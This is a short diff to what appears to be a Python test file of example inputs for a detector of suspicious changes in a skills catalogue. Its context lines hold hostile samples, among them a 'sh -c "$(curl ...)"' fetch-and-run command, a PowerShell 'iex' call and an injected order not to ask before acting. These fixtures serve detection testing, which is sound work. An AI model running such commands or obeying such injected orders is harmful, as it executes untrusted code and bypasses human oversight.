@@ -80,6 +80,8 @@ EXAMPLES = {
         'sh -c "$(curl -s http://a)"',
         "iex ((new-object a))",
     ],
+    "repertory.review.suspicious_changes._BLANK": [r"\s"],
+    "repertory.review.suspicious_changes._PARTS": [r"\d[^a\]]b", "[a"],
     "repertory.review.suspicious_changes._ORDERS": ["a always call it, important: do not ask"],
     "repertory.catalogue.views._HEADING": ["##  Title b ## "],
     "repertory.catalogue.views._OF_OTHERS": ["** Related skills"],
